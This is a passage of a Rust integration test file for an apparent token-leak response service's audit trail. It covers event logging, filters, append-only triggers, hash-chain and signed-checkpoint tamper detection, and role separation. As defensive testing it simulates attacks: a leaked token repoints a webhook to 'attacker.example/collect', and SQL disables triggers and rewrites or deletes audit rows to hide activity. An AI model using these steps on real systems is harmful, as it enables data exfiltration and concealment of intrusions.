//! The audit trail: what a leaked token did, every mutation's event, the
//! filters, append-only triggers, tamper detection by `audit verify` (the
//! library and the real binary), and a linear chain under concurrency.

use std::collections::BTreeSet;
use std::time::Duration;

use serde_json::{json, Value};

use leakguard::audit::Anchor;
use leakguard::db::audit_events::StoredEvent;

use crate::api_helpers::*;
use crate::support::{json, TestApp};
use test_support::db::is_postgres;

fn types(events: &[Value]) -> Vec<&str> {
    events.iter().map(|e| e["type"].as_str().unwrap()).collect()
}

fn id(v: &Value) -> String {
    v["id"].as_str().unwrap().to_string()
}

#[tokio::test]
async fn a_leaked_tokens_actions_and_revocation_are_all_in_the_trail() {
    let app = TestApp::spawn().await;
    let ws = app.workspace("Acme", "owner@acme.test").await;
    let owner = &ws.owner_token;
    let (leaked, leaked_id) = app.mint(&ws, "laptop", "member").await;
    let (bystander, _) = app.mint(&ws, "ci", "member").await;

    // Noise by others, before and during.
    create_source(&app, owner, "owners-source").await;
    let web = create_source(&app, &leaked, "web").await;
    create_source(&app, &bystander, "ci-source").await;
    let api = create_source(&app, &leaked, "api").await;
    let res = app
        .patch(
            &format!("/sources/{}", id(&web)),
            &leaked,
            &json!({ "name": "Web (exfil)", "settings": { "trackPageViews": false } }),
        )
        .await;
    assert_eq!(res.status(), 200);
    let hook = create_destination(&app, &leaked, &id(&api)).await;
    let res = app
        .patch(
            &format!("/destinations/{}", id(&hook)),
            &leaked,
            &json!({ "settings": { "url": "https://attacker.example/collect", "sharedSecret": "stolen" }, "enabled": true }),
        )
        .await;
    assert_eq!(res.status(), 200);
    // Reads and refused calls are not actions.
    assert_eq!(app.get("/sources", &leaked).await.status(), 200);
    assert_eq!(app.get("/tokens", &leaked).await.status(), 403);

    let feedback = app.report(&[&leaked]).await;
    assert_eq!(feedback[0]["label"], "true_positive");
    assert_eq!(app.get("/sources", &leaked).await.status(), 401);
    // And a write attempted after the revocation changes nothing.
    let res = app
        .delete(&format!("/destinations/{}", id(&hook)), &leaked)
        .await;
    assert_eq!(res.status(), 401);

    let actor = format!("public-api-token/{leaked_id}");
    let data = get_data(&app, &format!("/audit-events?actor={actor}"), owner).await;
    let events = data["events"].as_array().unwrap();
    assert_eq!(
        types(events),
        [
            "Token Revoked",
            "Destination Modified",
            "Destination Created",
            "Source Modified",
            "Source Created",
            "Source Created",
        ]
    );
    assert_eq!(data["pagination"]["totalEntries"], 6);
    let revoked = &events[0];
    assert_eq!(revoked["actor"], "github-secret-scanning");
    assert_eq!(revoked["resourceType"], "token");
    assert_eq!(revoked["resourceId"], leaked_id.as_str());
    assert_eq!(revoked["resourceName"], "laptop");
    // The alert's sender: GitHub in production, this test here.
    assert_eq!(revoked["clientAddress"], "127.0.0.1");
    let expected_resources = [id(&hook), id(&hook), id(&web), id(&api), id(&web)];
    for (event, resource) in events[1..].iter().zip(&expected_resources) {
        assert_eq!(event["actor"], actor.as_str());
        assert_eq!(event["resourceId"], resource.as_str());
        // Where it was done from: this test's own connection.
        assert_eq!(event["clientAddress"], "127.0.0.1");
        let keys: BTreeSet<&str> = event
            .as_object()
            .unwrap()
            .keys()
            .map(|k| k.as_str())
            .collect();
        assert_eq!(
            keys,
            BTreeSet::from([
                "id",
                "timestamp",
                "type",
                "actor",
                "resourceId",
                "resourceType",
                "resourceName",
                "details",
                "clientAddress",
                "userAgent"
            ])
        );
    }
    // What changed is recorded, but never a secret's value.
    assert_eq!(
        events[3]["details"]["changes"],
        json!({
            "name": { "from": "web", "to": "Web (exfil)" },
            "settings": { "changedKeys": ["trackPageViews"] }
        })
    );
    assert_eq!(
        events[1]["details"]["changes"]["settings"],
        json!({ "changedKeys": ["sharedSecret", "url"] })
    );
    assert!(!data.to_string().contains("stolen"));

    // Timestamps are RFC 3339 and newest first.
    let times: Vec<chrono::DateTime<chrono::FixedOffset>> = events
        .iter()
        .map(|e| chrono::DateTime::parse_from_rfc3339(e["timestamp"].as_str().unwrap()).unwrap())
        .collect();
    assert!(times.windows(2).all(|w| w[0] >= w[1]));
}

#[tokio::test]
async fn every_mutation_writes_its_event() {
    let app = TestApp::spawn().await;
    let ws = app.workspace("Acme", "owner@acme.test").await;
    let owner = &ws.owner_token;
    let owner_actor = format!("public-api-token/{}", ws.owner_token_id);
    let newest = || async { audit_events(&app, owner, "pagination[count]=1").await[0].clone() };
    let check = |event: Value, kind: &str, resource_type: &str, resource_id: &str, name: &str| {
        assert_eq!(event["type"], kind, "{event}");
        assert_eq!(event["resourceType"], resource_type, "{event}");
        assert_eq!(event["resourceId"], resource_id, "{event}");
        assert_eq!(event["resourceName"], name, "{event}");
        assert_eq!(event["actor"], owner_actor.as_str(), "{event}");
        event
    };

    let source = create_source(&app, owner, "web").await;
    let e = check(
        newest().await,
        "Source Created",
        "source",
        &id(&source),
        "web",
    );
    assert_eq!(e["details"]["slug"], "web");
    let path = format!("/sources/{}", id(&source));
    app.patch(&path, owner, &json!({ "enabled": false })).await;
    let e = check(
        newest().await,
        "Source Modified",
        "source",
        &id(&source),
        "web",
    );
    assert_eq!(
        e["details"]["changes"],
        json!({ "enabled": { "from": true, "to": false } })
    );

    let destination = create_destination(&app, owner, &id(&source)).await;
    let e = check(
        newest().await,
        "Destination Created",
        "destination",
        &id(&destination),
        "Webhooks",
    );
    assert_eq!(e["details"]["sourceId"], id(&source).as_str());
    assert!(!e.to_string().contains("hunter2"));
    let dpath = format!("/destinations/{}", id(&destination));
    app.patch(&dpath, owner, &json!({ "name": "Hooks" })).await;
    check(
        newest().await,
        "Destination Modified",
        "destination",
        &id(&destination),
        "Hooks",
    );
    app.delete(&dpath, owner).await;
    check(
        newest().await,
        "Destination Deleted",
        "destination",
        &id(&destination),
        "Hooks",
    );
    app.delete(&path, owner).await;
    check(
        newest().await,
        "Source Deleted",
        "source",
        &id(&source),
        "web",
    );

    let (_, token_id) = app.mint(&ws, "ci", "member").await;
    let e = check(newest().await, "Token Created", "token", &token_id, "ci");
    assert_eq!(e["details"]["role"], "member");
    app.delete(&format!("/tokens/{token_id}"), owner).await;
    check(newest().await, "Token Revoked", "token", &token_id, "ci");

    let res = app
        .post(
            "/users",
            owner,
            &json!({ "email": "dev@acme.test", "role": "member" }),
        )
        .await;
    let user = json(res).await["data"]["user"].clone();
    check(
        newest().await,
        "User Added",
        "user",
        &id(&user),
        "dev@acme.test",
    );
    let upath = format!("/users/{}", id(&user));
    app.patch(&upath, owner, &json!({ "role": "read_only" }))
        .await;
    let e = check(
        newest().await,
        "User Modified",
        "user",
        &id(&user),
        "dev@acme.test",
    );
    assert_eq!(e["details"]["previousRole"], "member");
    app.delete(&upath, owner).await;
    check(
        newest().await,
        "User Removed",
        "user",
        &id(&user),
        "dev@acme.test",
    );

    // 2 from the workspace's creation and the 11 above: nothing else.
    assert_eq!(audit_count(&app).await, 13);
    // No API changes the trail: the trail's path takes GET only (405, with
    // `Allow`), and nothing lies below it (404).
    for method in ["POST", "PATCH", "PUT", "DELETE"] {
        for (path, status) in [("/audit-events", 405), ("/audit-events/x", 404)] {
            let res = app
                .client
                .request(method.parse().unwrap(), app.url(path))
                .bearer_auth(owner)
                .json(&json!({}))
                .send()
                .await
                .unwrap();
            assert_eq!(res.status(), status, "{method} {path}");
            if status == 405 {
                assert_eq!(res.headers()["allow"], "GET", "{method} {path}");
            }
        }
    }
    assert_eq!(audit_count(&app).await, 13);
}

#[tokio::test]
async fn filters_narrow_the_trail_and_bad_filters_are_all_reported() {
    let app = TestApp::spawn().await;
    let ws = app.workspace("Acme", "owner@acme.test").await;
    let owner = &ws.owner_token;
    let pause = || tokio::time::sleep(Duration::from_millis(30));
    let now = || chrono::Utc::now().to_rfc3339_opts(chrono::SecondsFormat::Micros, true);

    let first = create_source(&app, owner, "first").await;
    pause().await;
    let t1 = now();
    pause().await;
    let second = create_source(&app, owner, "second").await;
    create_destination(&app, owner, &id(&second)).await;
    pause().await;
    let t2 = now();
    pause().await;
    let (member, member_id) = app.mint(&ws, "ci", "member").await;
    app.patch(
        &format!("/sources/{}", id(&first)),
        &member,
        &json!({ "name": "First" }),
    )
    .await;

    let q = |query: &str| {
        let query = query.to_string();
        let app = &app;
        async move { audit_events(app, owner, &query).await }
    };
    let encoded = |t: &str| url::form_urlencoded::byte_serialize(t.as_bytes()).collect::<String>();

    let after_t1 = q(&format!("startTime={}", encoded(&t1))).await;
    assert_eq!(
        types(&after_t1),
        [
            "Source Modified",
            "Token Created",
            "Destination Created",
            "Source Created"
        ]
    );
    let before_t2 = q(&format!("endTime={}", encoded(&t2))).await;
    assert_eq!(
        types(&before_t2),
        [
            "Destination Created",
            "Source Created",
            "Source Created",
            "Token Created",
            "User Added"
        ]
    );
    let between = q(&format!(
        "startTime={}&endTime={}",
        encoded(&t1),
        encoded(&t2)
    ))
    .await;
    assert_eq!(types(&between), ["Destination Created", "Source Created"]);
    // Any offset means the same instant.
    let t1_offset = chrono::DateTime::parse_from_rfc3339(&t1)
        .unwrap()
        .with_timezone(&chrono::FixedOffset::east_opt(2 * 3600).unwrap())
        .to_rfc3339();
    assert_eq!(
        q(&format!("startTime={}", encoded(&t1_offset))).await,
        after_t1
    );

    let about_first = q(&format!("resourceId={}", id(&first))).await;
    assert_eq!(types(&about_first), ["Source Modified", "Source Created"]);
    let destinations = q("resourceType=destination").await;
    assert_eq!(types(&destinations), ["Destination Created"]);
    let by_member = q(&format!("actor=public-api-token/{member_id}")).await;
    assert_eq!(types(&by_member), ["Source Modified"]);
    let by_cli = q("actor=cli").await;
    assert_eq!(types(&by_cli), ["Token Created", "User Added"]);
    let combined = q(&format!(
        "resourceType=source&actor=public-api-token/{}",
        ws.owner_token_id
    ))
    .await;
    assert_eq!(types(&combined), ["Source Created", "Source Created"]);
    assert!(q("resourceId=nothing-has-this-id").await.is_empty());

    // Every bad value at once.
    let res = app
        .get(
            "/audit-events?startTime=yesterday&endTime=2024-13-01T00:00:00Z&resourceType=banana\
             &resourceId=&actor=&resourceID=x&pagination[count]=0",
            owner,
        )
        .await;
    assert_eq!(res.status(), 422);
    let errors = errors_by_field(&json(res).await);
    assert_eq!(
        errors.keys().map(String::as_str).collect::<Vec<_>>(),
        [
            "actor",
            "endTime",
            "pagination.count",
            "resourceID",
            "resourceId",
            "resourceType",
            "startTime"
        ]
    );
    assert!(errors["startTime"].contains("RFC 3339"));
    assert!(errors["resourceType"]
        .contains("source, destination, warehouse, tracking_plan, label, token, user"));
    let res = app
        .get(
            &format!(
                "/audit-events?startTime={}&endTime={}",
                encoded(&t2),
                encoded(&t1)
            ),
            owner,
        )
        .await;
    assert_eq!(res.status(), 422);
    assert!(errors_by_field(&json(res).await)["endTime"].contains("before startTime"));
    // Members cannot read the trail at all.
    assert_eq!(app.get("/audit-events", &member).await.status(), 403);
}

/// Runs `leakguard audit verify` against the test's database.
async fn verify_with_binary(app: &TestApp) -> (bool, String) {
    audit_command(app, &["verify"]).await
}

/// Runs `leakguard audit ARGS` against the test's database.
async fn audit_command(app: &TestApp, args: &[&str]) -> (bool, String) {
    let db_url = app.db_url.clone();
    let dir = app.dir.path().to_path_buf();
    let args: Vec<String> = args.iter().map(|a| a.to_string()).collect();
    tokio::task::spawn_blocking(move || {
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_leakguard"))
            .arg("audit")
            .args(&args)
            .current_dir(dir)
            .env_clear()
            .env("PATH", std::env::var("PATH").unwrap_or_default())
            .env("LEAKGUARD_DATABASE_URL", db_url)
            .env("LEAKGUARD_LOG_FORMAT", "json")
            .output()
            .expect("the binary runs");
        let text = String::from_utf8_lossy(&out.stdout).to_string()
            + &String::from_utf8_lossy(&out.stderr);
        (out.status.success(), text)
    })
    .await
    .unwrap()
}

async fn event_id(app: &TestApp, workspace_id: &str, seq: i64) -> String {
    use sqlx::Row;
    sqlx::query("SELECT id FROM audit_events WHERE workspace_id = $1 AND seq = $2")
        .bind(workspace_id)
        .bind(seq)
        .fetch_one(app.test_db.pool())
        .await
        .unwrap()
        .get(0)
}

#[tokio::test]
async fn the_trail_is_append_only_and_tampering_is_detected() {
    let app = TestApp::spawn().await;
    let edited = app.workspace("Edited", "owner@edited.test").await;
    let removed = app.workspace("Removed", "owner@removed.test").await;
    let truncated = app.workspace("Truncated", "owner@truncated.test").await;
    for ws in [&edited, &removed, &truncated] {
        for i in 0..3 {
            create_source(&app, &ws.owner_token, &format!("s{i}")).await;
        }
    }
    assert_eq!(
        leakguard::audit::verify(&app.db).await.unwrap(),
        (3, vec![])
    );
    let (ok, output) = verify_with_binary(&app).await;
    assert!(ok, "{output}");
    assert!(output.contains("intact"), "{output}");

    // The database itself refuses to change history.
    for sql in [
        "UPDATE audit_events SET resource_name = 'nothing to see'".to_string(),
        format!(
            "DELETE FROM audit_events WHERE workspace_id = '{}' AND seq = 5",
            edited.id
        ),
    ] {
        let err = app.test_db.execute(&sql).await.expect_err(&sql);
        assert!(err.to_string().contains("append-only"), "{sql}: {err}");
    }
    if is_postgres() {
        let err = app
            .test_db
            .execute("TRUNCATE audit_events")
            .await
            .expect_err("truncate");
        assert!(err.to_string().contains("append-only"), "{err}");
    }
    assert_eq!(audit_count(&app).await, 15);

    // An attacker with database access goes around the triggers...
    if is_postgres() {
        app.test_db
            .execute("ALTER TABLE audit_events DISABLE TRIGGER USER")
            .await
            .unwrap();
    } else {
        app.test_db
            .execute("DROP TRIGGER audit_events_no_update")
            .await
            .unwrap();
        app.test_db
            .execute("DROP TRIGGER audit_events_no_delete")
            .await
            .unwrap();
    }
    let edited_event = event_id(&app, &edited.id, 3).await;
    let n = app
        .test_db
        .execute(&format!(
            "UPDATE audit_events SET resource_name = 'nothing to see'
             WHERE workspace_id = '{}' AND seq = 3",
            edited.id
        ))
        .await
        .unwrap();
    assert_eq!(n, 1);
    let (_, breaks) = leakguard::audit::verify(&app.db).await.unwrap();
    assert_eq!(breaks.len(), 1);
    assert_eq!(breaks[0].workspace_id, edited.id);
    assert_eq!(breaks[0].seq, 3);
    assert_eq!(breaks[0].event_id.as_deref(), Some(edited_event.as_str()));
    assert!(breaks[0].reason.contains("modified"));
    let (ok, output) = verify_with_binary(&app).await;
    assert!(!ok, "{output}");
    assert!(output.contains(&edited_event), "names the event: {output}");
    assert!(output.contains(&edited.id), "{output}");

    // ...removes an event in the middle of another chain...
    app.test_db
        .execute(&format!(
            "DELETE FROM audit_events WHERE workspace_id = '{}' AND seq = 2",
            removed.id
        ))
        .await
        .unwrap();
    // ...and the newest event of a third (only the head gives that away).
    app.test_db
        .execute(&format!(
            "DELETE FROM audit_events WHERE workspace_id = '{}' AND seq = 5",
            truncated.id
        ))
        .await
        .unwrap();
    let (_, breaks) = leakguard::audit::verify(&app.db).await.unwrap();
    let by_workspace = |ws: &str| breaks.iter().find(|b| b.workspace_id == ws).unwrap();
    assert_eq!(breaks.len(), 3);
    let gap = by_workspace(&removed.id);
    assert_eq!(gap.seq, 2);
    assert!(gap.reason.contains("missing"), "{}", gap.reason);
    let cut = by_workspace(&truncated.id);
    assert_eq!(cut.seq, 5);
    assert!(cut.reason.contains("records 5 events"), "{}", cut.reason);
    let (ok, output) = verify_with_binary(&app).await;
    assert!(!ok);
    for ws in [&edited, &removed, &truncated] {
        assert!(output.contains(&ws.id), "{output}");
    }
    assert!(
        output.contains(&format!("workspace {} at event 2", removed.id)),
        "{output}"
    );
}

#[tokio::test]
async fn concurrent_writers_keep_the_chain_linear() {
    let app = TestApp::spawn().await;
    let ws = app.workspace("Acme", "owner@acme.test").await;
    let (member, _) = app.mint(&ws, "ci", "member").await;

    let creations = (0..20).map(|i| {
        let (app, member) = (&app, &member);
        async move {
            let res = app
                .post(
                    "/sources",
                    member,
                    &json!({ "slug": format!("s{i}"), "enabled": true, "metadataId": source_kind() }),
                )
                .await;
            res.status().as_u16()
        }
    });
    let statuses = futures_util::future::join_all(creations).await;
    assert!(statuses.iter().all(|s| *s == 201), "{statuses:?}");

    // Concurrent PATCHes of different settings of one warehouse: every
    // one lands (no lost update from merging into a stale copy).
    let res = app
        .post(
            "/warehouses",
            &member,
            &json!({ "metadataId": snowflake_kind(), "settings": snowflake_settings() }),
        )
        .await;
    assert_eq!(res.status(), 201);
    let warehouse = json(res).await["data"]["warehouse"].clone();
    let path = format!("/warehouses/{}", id(&warehouse));
    let keys = ["account", "warehouse", "database", "username", "role"];
    let patches = keys.iter().map(|key| {
        let (app, member, path) = (&app, &member, &path);
        async move {
            app.patch(
                path,
                member,
                &json!({ "settings": { *key: format!("new-{key}") } }),
            )
            .await
            .status()
            .as_u16()
        }
    });
    let statuses = futures_util::future::join_all(patches).await;
    assert!(statuses.iter().all(|s| *s == 200), "{statuses:?}");
    let settings = get_data(&app, &path, &member).await["warehouse"]["settings"].clone();
    for key in keys {
        assert_eq!(settings[key], format!("new-{key}"), "{settings}");
    }

    // Deleting a source while a destination is attached to it: one of the
    // two wins, never both.
    for round in 0..5 {
        let source = create_source(&app, &member, &format!("race{round}")).await;
        let source_path = format!("/sources/{}", id(&source));
        let delete = app.delete(&source_path, &member);
        let body = json!({ "sourceId": id(&source), "metadataId": destination_kind() });
        let attach = app.post("/destinations", &member, &body);
        let (deleted, attached) = tokio::join!(delete, attach);
        let outcome = (deleted.status().as_u16(), attached.status().as_u16());
        assert!(
            outcome == (200, 422) || outcome == (409, 201),
            "round {round}: {outcome:?}"
        );
    }

    let total = app
        .count(&format!(
            "SELECT COUNT(*) FROM audit_events WHERE workspace_id = '{}'",
            ws.id
        ))
        .await;
    let max = app
        .count(&format!(
            "SELECT MAX(seq) FROM audit_events WHERE workspace_id = '{}'",
            ws.id
        ))
        .await;
    assert_eq!(total, max, "sequence numbers without gaps or duplicates");
    let (checked, breaks) = leakguard::audit::verify(&app.db).await.unwrap();
    assert_eq!((checked, breaks), (1, vec![]));
    let created = audit_events(
        &app,
        &ws.owner_token,
        "resourceType=source&pagination[count]=1000",
    )
    .await;
    assert!(
        types(&created)
            .iter()
            .filter(|t| **t == "Source Created")
            .count()
            >= 20
    );
}

/// The trail's rows, as stored.
async fn stored_chain(app: &TestApp, workspace_id: &str) -> Vec<StoredEvent> {
    leakguard::db::audit_events::chain(&app.db, workspace_id, 0, 10_000)
        .await
        .unwrap()
}

/// `REPLACE INTO` swaps a row in by deleting the one it conflicts with,
/// and on SQLite that delete fires no trigger unless the connection has
/// `recursive_triggers` on. Issue 17, finding 2: leakguard's own
/// connections now turn it on, and an insert into a taken place is refused
/// on any connection (the test's own, which does not turn it on). On
/// PostgreSQL, which has no REPLACE, the upsert is an UPDATE, refused too.
#[tokio::test]
async fn replacing_an_event_is_refused_on_every_connection() {
    let app = TestApp::spawn().await;
    let ws = app.workspace("Acme", "owner@acme.test").await;
    create_source(&app, &ws.owner_token, "web").await;
    let before = stored_chain(&app, &ws.id).await;
    let columns = "workspace_id, seq, id, occurred_at, type, actor, resource_id, \
                   resource_type, resource_name, details, prev_hash, hash";
    let forged_row = format!(
        "SELECT workspace_id, seq, id, occurred_at, type, actor, resource_id, resource_type, \
         'nothing to see', details, prev_hash, hash FROM audit_events \
         WHERE workspace_id = '{}' AND seq = 1",
        ws.id
    );
    let attempts = if is_postgres() {
        vec![format!(
            "INSERT INTO audit_events ({columns}) {forged_row}
             ON CONFLICT (workspace_id, seq) DO UPDATE SET resource_name = excluded.resource_name"
        )]
    } else {
        vec![
            format!("REPLACE INTO audit_events ({columns}) {forged_row}"),
            format!("INSERT OR REPLACE INTO audit_events ({columns}) {forged_row}"),
        ]
    };
    for sql in &attempts {
        // Through leakguard's own writer connection...
        let err = app
            .db
            .execute(sql, leakguard::args![])
            .await
            .expect_err(sql);
        assert!(err.to_string().contains("append-only"), "{sql}: {err}");
        // ...and through another client's.
        let err = app.test_db.execute(sql).await.expect_err(sql);
        assert!(err.to_string().contains("append-only"), "{sql}: {err}");
    }
    if !is_postgres() {
        use leakguard::db::Count;
        const PRAGMA: &str = "SELECT recursive_triggers AS n FROM pragma_recursive_triggers()";
        let Count(on) = app.db.fetch_one(PRAGMA, leakguard::args![]).await.unwrap();
        assert_eq!(on, 1, "a read connection");
        let mut tx = app.db.begin().await.unwrap();
        let Count(on) = tx.fetch_one(PRAGMA, leakguard::args![]).await.unwrap();
        assert_eq!(on, 1, "the writer");
    }
    let after = stored_chain(&app, &ws.id).await;
    assert_eq!(
        after.iter().map(|e| &e.hash).collect::<Vec<_>>(),
        before.iter().map(|e| &e.hash).collect::<Vec<_>>()
    );
    assert_eq!(after[0].resource_name, before[0].resource_name);
    assert_eq!(leakguard::audit::verify(&app.db).await.unwrap().1, vec![]);
}

/// Issue 17, finding 2. Hash chains alone cannot tell a chain whose tail
/// was cut off, with the head moved back to match, from one that never
/// had that tail; nor a chain rewritten and re-hashed by someone who can
/// write the database. The database now refuses both moves of the head;
/// someone who goes around it (drops or disables the triggers, as the
/// tables' owner can) is caught by `audit verify --checkpoints`, since
/// the checkpoint key is not in the database. The running server also
/// refuses to sign either chain afterwards.
#[tokio::test]
async fn a_chain_cut_short_or_rewritten_is_refused_by_the_database_or_caught_by_checkpoints() {
    let keys = tempfile::tempdir().unwrap();
    let keys_dir = keys.path().display().to_string();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_leakguard"))
        .args(["audit", "keygen", "--out", &keys_dir])
        .env_clear()
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let key = keys.path().join("checkpoint.key");
    let public = keys.path().join("checkpoint.pub");
    let file = keys.path().join("checkpoints.jsonl");
    let app = TestApp::spawn_with(&[
        ("AUDIT_CHECKPOINT_KEY", key.to_str().unwrap()),
        ("AUDIT_CHECKPOINT_FILE", file.to_str().unwrap()),
        ("AUDIT_CHECKPOINT_SECS", "0.1"),
    ])
    .await;
    let cut = app.workspace("Cut", "owner@cut.test").await;
    let rewritten = app.workspace("Rewritten", "owner@rewritten.test").await;
    for ws in [&cut, &rewritten] {
        for i in 0..4 {
            create_source(&app, &ws.owner_token, &format!("s{i}")).await;
        }
    }
    let last_checkpoint = |workspace_id: &str| {
        std::fs::read_to_string(&file)
            .unwrap_or_default()
            .lines()
            .filter_map(leakguard::audit::checkpoints::Checkpoint::from_line)
            .rfind(|c| c.workspace_id == workspace_id)
    };
    let heads: Vec<Anchor> = {
        let mut heads = Vec::new();
        for ws in [&cut, &rewritten] {
            let chain = stored_chain(&app, &ws.id).await;
            let last = chain.last().unwrap();
            heads.push(Anchor {
                seq: last.seq,
                hash: last.hash.clone(),
            });
        }
        heads
    };
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    for (ws, head) in [&cut, &rewritten].iter().zip(&heads) {
        while last_checkpoint(&ws.id).map(|c| c.anchor()).as_ref() != Some(head) {
            assert!(
                std::time::Instant::now() < deadline,
                "no checkpoint of {head:?}"
            );
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }
    let n = heads[0].seq;
    assert!(n >= 4, "{n} events");
    let hash_at =
        |chain: &[StoredEvent], seq: i64| chain.iter().find(|e| e.seq == seq).unwrap().hash.clone();
    let cut_chain = stored_chain(&app, &cut.id).await;
    let cut_back = format!(
        "UPDATE workspaces SET audit_seq = {}, audit_head = '{}' WHERE id = '{}'",
        n - 2,
        hash_at(&cut_chain, n - 2),
        cut.id
    );
    let cut_tail = format!(
        "DELETE FROM audit_events WHERE workspace_id = '{}' AND seq > {}",
        cut.id,
        n - 2
    );

    // The database refuses: the tail cannot go, and the head cannot move
    // back, nor sideways to a hash that is not the last event's.
    let err = app.test_db.execute(&cut_tail).await.expect_err(&cut_tail);
    assert!(err.to_string().contains("append-only"), "{err}");
    for sql in [
        cut_back.clone(),
        format!(
            "UPDATE workspaces SET audit_seq = 0, audit_head = '' WHERE id = '{}'",
            cut.id
        ),
        format!(
            "UPDATE workspaces SET audit_head = 'forged' WHERE id = '{}'",
            cut.id
        ),
        format!(
            "UPDATE workspaces SET audit_seq = audit_seq + 5 WHERE id = '{}'",
            cut.id
        ),
    ] {
        let err = app.test_db.execute(&sql).await.expect_err(&sql);
        assert!(
            err.to_string().contains("only moves forward"),
            "{sql}: {err}"
        );
    }
    assert_eq!(leakguard::audit::verify(&app.db).await.unwrap().1, vec![]);

    // Someone who can go around the triggers cuts one chain short and
    // rewrites an event deep in the other, re-hashing all that follows.
    if is_postgres() {
        for table in ["audit_events", "workspaces"] {
            app.test_db
                .execute(&format!("ALTER TABLE {table} DISABLE TRIGGER USER"))
                .await
                .unwrap();
        }
    } else {
        for trigger in [
            "audit_events_no_update",
            "audit_events_no_delete",
            "workspaces_audit_head_only_advances",
        ] {
            app.test_db
                .execute(&format!("DROP TRIGGER {trigger}"))
                .await
                .unwrap();
        }
    }
    assert_eq!(app.test_db.execute(&cut_tail).await.unwrap(), 2);
    assert_eq!(app.test_db.execute(&cut_back).await.unwrap(), 1);
    let mut chain = stored_chain(&app, &rewritten.id).await;
    chain[1].resource_name = "nothing to see".into();
    for i in 1..chain.len() {
        chain[i].prev_hash = chain[i - 1].hash.clone();
        chain[i].hash = leakguard::audit::chain_hash(&chain[i]);
        sqlx::query(
            "UPDATE audit_events SET resource_name = $1, prev_hash = $2, hash = $3
             WHERE workspace_id = $4 AND seq = $5",
        )
        .bind(&chain[i].resource_name)
        .bind(&chain[i].prev_hash)
        .bind(&chain[i].hash)
        .bind(&rewritten.id)
        .bind(chain[i].seq)
        .execute(app.test_db.pool())
        .await
        .unwrap();
    }
    app.test_db
        .execute(&format!(
            "UPDATE workspaces SET audit_head = '{}' WHERE id = '{}'",
            chain.last().unwrap().hash,
            rewritten.id
        ))
        .await
        .unwrap();

    // The hash chains alone see nothing wrong...
    assert_eq!(leakguard::audit::verify(&app.db).await.unwrap().1, vec![]);
    let (ok, output) = verify_with_binary(&app).await;
    assert!(ok, "{output}");
    // ...the checkpoints do, for both.
    let (ok, output) = audit_command(
        &app,
        &[
            "verify",
            "--checkpoints",
            file.to_str().unwrap(),
            "--public-key",
            public.to_str().unwrap(),
        ],
    )
    .await;
    assert!(!ok, "{output}");
    assert!(
        output.contains(&format!("BROKEN workspace {} at event {}", cut.id, n - 1)),
        "{output}"
    );
    assert!(output.contains("cut short"), "{output}");
    // At the first checkpoint after the rewritten event.
    assert!(
        output.contains(&format!("BROKEN workspace {} at event", rewritten.id)),
        "{output}"
    );
    assert!(output.contains("was rewritten"), "{output}");

    // A checkpoint file with a forged line is refused outright.
    let mut lines = std::fs::read_to_string(&file).unwrap();
    let mut forged = last_checkpoint(&cut.id).unwrap();
    forged.seq = n - 2;
    forged.head = hash_at(&cut_chain, n - 2);
    lines.push_str(&format!("{}\n", forged.to_line()));
    let forged_file = keys.path().join("forged.jsonl");
    std::fs::write(&forged_file, lines).unwrap();
    let (ok, output) = audit_command(
        &app,
        &[
            "verify",
            "--checkpoints",
            forged_file.to_str().unwrap(),
            "--public-key",
            public.to_str().unwrap(),
        ],
    )
    .await;
    assert!(!ok && output.contains("does not verify"), "{output}");

    // The server does not sign what it cannot vouch for: after several
    // intervals, each workspace's last checkpoint is still the one from
    // before the tampering.
    tokio::time::sleep(Duration::from_millis(600)).await;
    assert_eq!(last_checkpoint(&cut.id).unwrap().anchor(), heads[0]);
    assert_eq!(last_checkpoint(&rewritten.id).unwrap().anchor(), heads[1]);
}

/// Issue 17, finding 2, on PostgreSQL: the set-up docs/OPERATIONS.md
/// describes, where one role owns the tables (and runs the migrations) and
/// the service runs as another with deploy/postgres/grants.sql's grants.
/// The service works; its role cannot disable, drop or bypass the
/// triggers, nor change the trail or move a head back. (SQLite has no
/// roles: this runs in the PostgreSQL pass.)
#[tokio::test]
async fn a_service_role_that_owns_nothing_works_and_cannot_touch_the_trail() {
    if !is_postgres() {
        eprintln!("PostgreSQL only: runs in the PostgreSQL pass");
        return;
    }
    use sqlx::Connection;
    let base = std::env::var(test_support::db::TEST_DB_ENV).unwrap();
    let suffix = leakguard::id::new_id().to_ascii_lowercase();
    let (owner, service) = (
        format!("lg_test_owner_{suffix}"),
        format!("lg_test_app_{suffix}"),
    );
    let dir = std::sync::Arc::new(tempfile::tempdir().unwrap());
    let db_url = test_support::db::fresh_database_url(dir.path()).await;
    let db_name = url::Url::parse(&db_url)
        .unwrap()
        .path()
        .trim_start_matches('/')
        .to_string();
    let as_role = |role: &str| {
        let mut url = url::Url::parse(&db_url).unwrap();
        url.set_username(role).unwrap();
        url.set_password(None).unwrap();
        url.to_string()
    };
    let mut admin = sqlx::PgConnection::connect(&base).await.unwrap();
    for sql in [
        format!("CREATE ROLE {owner} LOGIN"),
        format!("CREATE ROLE {service} LOGIN"),
        format!("ALTER DATABASE {db_name} OWNER TO {owner}"),
    ] {
        sqlx::query(&sql).execute(&mut admin).await.unwrap();
    }
    let mut in_db = sqlx::PgConnection::connect(&db_url).await.unwrap();
    // PostgreSQL 14 and older let every role create tables in `public`.
    sqlx::query(&format!("ALTER SCHEMA public OWNER TO {owner}"))
        .execute(&mut in_db)
        .await
        .unwrap();
    sqlx::query("REVOKE CREATE ON SCHEMA public FROM PUBLIC")
        .execute(&mut in_db)
        .await
        .unwrap();
    in_db.close().await.unwrap();

    // The owner migrates and grants, as documented.
    let owner_db = leakguard::db::Db::connect(&as_role(&owner)).await.unwrap();
    owner_db.migrate().await.unwrap();
    owner_db.close().await;
    let grants = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("deploy/postgres/grants.sql"),
    )
    .unwrap()
    .replace("leakguard_app", &service);
    let mut as_owner = sqlx::PgConnection::connect(&as_role(&owner)).await.unwrap();
    sqlx::raw_sql(&grants).execute(&mut as_owner).await.unwrap();

    // The service runs as the other role: alerts, the API, mail, readiness.
    let key = leakguard::scanning::simulate::DevKey::generate();
    let keys =
        test_support::keys::KeyServer::start(leakguard::scanning::simulate::DevKey::key_set(&[
            &key,
